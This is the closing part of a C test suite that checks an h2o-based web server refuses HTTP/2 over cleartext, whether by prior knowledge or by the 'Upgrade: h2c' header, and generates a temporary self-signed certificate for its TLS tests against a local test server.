START_TEST(http2_attacks_over_tls_get_no_http2_and_cost_the_server_nothing)
{
    attack_server(true);
}
END_TEST

START_TEST(http2_attacks_on_the_plain_port_get_no_http2_and_cost_the_server_nothing)
{
    attack_server(false);
}
END_TEST

/* ---- h2c ---- */

START_TEST(h2c_by_prior_knowledge_or_upgrade_gets_http11)
{
    test_server srv;
    test_server_start(&srv, db, NULL);
    char url[96];
    snprintf(url, sizeof(url), "%s/json", srv.base_url);

    /* curl --http2-prior-knowledge: the preface gets h2o's 400, never a frame */
    CURL *c = curl_easy_init();
    ck_assert_ptr_nonnull(c);
    test_reply reply = {0};
    curl_easy_setopt(c, CURLOPT_URL, url);
    curl_easy_setopt(c, CURLOPT_NOSIGNAL, 1L);
    curl_easy_setopt(c, CURLOPT_TIMEOUT_MS, 10000L);
    curl_easy_setopt(c, CURLOPT_WRITEFUNCTION, test_reply_write);
    curl_easy_setopt(c, CURLOPT_WRITEDATA, &reply);
    curl_easy_setopt(c, CURLOPT_HTTP_VERSION, (long)CURL_HTTP_VERSION_2_PRIOR_KNOWLEDGE);
    CURLcode rc = curl_easy_perform(c);
    long version = 0, status = 0;
    curl_easy_getinfo(c, CURLINFO_HTTP_VERSION, &version);
    curl_easy_getinfo(c, CURLINFO_RESPONSE_CODE, &status);
    report("h2c: curl --http2-prior-knowledge: %s, status %ld, HTTP version %ld", curl_easy_strerror(rc), status,
           version);
    ck_assert_msg(rc != CURLE_OK && version != CURL_HTTP_VERSION_2_0,
                  "prior knowledge: %s, status %ld over HTTP version %ld", curl_easy_strerror(rc), status, version);
    curl_easy_cleanup(c);

    /* the same on a raw socket: h2o's own 400 text/plain, then the close */
    bytes b = {0};
    opening(&b);
    bytes block = {0};
    request_block(&block, false, "/json");
    frame(&b, HEADERS, END_STREAM | END_HEADERS, 1, block.p, block.len);
    bytes_free(&block);
    size_t len;
    char *got = test_raw_exchange(srv.port, (const char *)b.p, b.len, 10000, &len);
    bytes_free(&b);
    ck_assert_msg(len >= 12 && strncmp(got, "HTTP/1.1 400 ", 13) == 0 && strstr(got, "text/plain") != NULL &&
                      strstr(got, "\r\n\r\nBad Request") != NULL,
                  "the preface got: %.300s", got);
    free(got);

    /* Upgrade: h2c (curl --http2 on http://): a plain HTTP/1.1 200, no 101 */
    c = curl_easy_init();
    ck_assert_ptr_nonnull(c);
    reply.len = 0;
    curl_easy_setopt(c, CURLOPT_URL, url);
    curl_easy_setopt(c, CURLOPT_NOSIGNAL, 1L);
    curl_easy_setopt(c, CURLOPT_TIMEOUT_MS, 10000L);
    curl_easy_setopt(c, CURLOPT_WRITEFUNCTION, test_reply_write);
    curl_easy_setopt(c, CURLOPT_WRITEDATA, &reply);
    curl_easy_setopt(c, CURLOPT_HTTP_VERSION, (long)CURL_HTTP_VERSION_2_0);
    rc = curl_easy_perform(c);
    curl_easy_getinfo(c, CURLINFO_HTTP_VERSION, &version);
    curl_easy_getinfo(c, CURLINFO_RESPONSE_CODE, &status);
    ck_assert_msg(rc == CURLE_OK && status == 200 && version == CURL_HTTP_VERSION_1_1,
                  "Upgrade: h2c: %s, status %ld, HTTP version %ld", curl_easy_strerror(rc), status, version);
    ck_assert_str_eq(reply.body, "{\"message\":\"Hello, World!\"}");
    curl_easy_cleanup(c);
    free(reply.body);

    static const char upgrade[] = "GET /json HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade, HTTP2-Settings\r\n"
                                  "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n";
    int fd = test_raw_connect(srv.port);
    test_raw_send(fd, upgrade, sizeof(upgrade) - 1);
    test_response r;
    test_raw_read_response(fd, 10000, 0, &r);
    ck_assert_msg(r.status == 200, "Upgrade: h2c on a raw socket: %ld\n%s", r.status, r.headers);
    ck_assert_msg(strncmp(r.headers, "HTTP/1.1 200", 12) == 0, "%s", r.headers);
    ck_assert_str_eq(r.body, "{\"message\":\"Hello, World!\"}");
    char *up = test_response_header(&r, "Upgrade");
    ck_assert_msg(up == NULL, "the answer carries Upgrade: %s", up);
    /* h2o closes a connection whose request asked for an Upgrade it did
     * not make: nothing follows the answer, no HTTP/2 frame either */
    char *connection = test_response_header(&r, "Connection");
    test_response_free(&r);
    size_t rest_len;
    char *rest = test_raw_read_all(fd, 2000, &rest_len);
    ck_assert_msg(rest_len == 0, "%zu bytes after the answer to Upgrade: h2c", rest_len);
    free(rest);
    close(fd);
    report("h2c: the preface got h2o's 400 text/plain and a close; Upgrade: h2c got HTTP/1.1 200 (curl and raw), no "
           "101 and nothing after it (Connection: %s)", connection ? connection : "(none)");
    free(connection);
    ck_assert_int_eq(test_server_stop(&srv), 0);
}
END_TEST

/* ---- the certificate ---- */

static void make_certificate(void)
{
    snprintf(tls_dir, sizeof(tls_dir), "/tmp/h2pg-attacks-XXXXXX");
    if (mkdtemp(tls_dir) == NULL) {
        perror(tls_dir);
        exit(EXIT_FAILURE);
    }
    snprintf(cert_path, sizeof(cert_path), "%s/cert.pem", tls_dir);
    snprintf(key_path, sizeof(key_path), "%s/key.pem", tls_dir);
    char cmd[1024];
    snprintf(cmd, sizeof(cmd),
             "openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 -subj /CN=localhost "
             "-addext subjectAltName=DNS:localhost,IP:127.0.0.1 -keyout %s -out %s 2>/dev/null",
             key_path, cert_path);
    int rc = system(cmd);
    if (rc != 0) { /* outside any test: Check cannot report it */
        fprintf(stderr, "`%s` failed (%d): is the openssl command installed?\n", cmd, rc);
        exit(EXIT_FAILURE);
    }
}

int main(void)
{
    curl_global_init(CURL_GLOBAL_ALL);
    make_certificate();
    Suite *s = suite_create("attacks");
    TCase *t = tcase_create("http2");
    tcase_add_unchecked_fixture(t, db_setup, db_teardown);
    tcase_set_timeout(t, 180);
    tcase_add_test(t, http2_attacks_over_tls_get_no_http2_and_cost_the_server_nothing);
    tcase_add_test(t, http2_attacks_on_the_plain_port_get_no_http2_and_cost_the_server_nothing);
    tcase_add_test(t, h2c_by_prior_knowledge_or_upgrade_gets_http11);
    suite_add_tcase(s, t);
    int rc = run_suite(s);
    unlink(cert_path);
    unlink(key_path);
    rmdir(tls_dir);
    curl_global_cleanup();
    return rc;
}
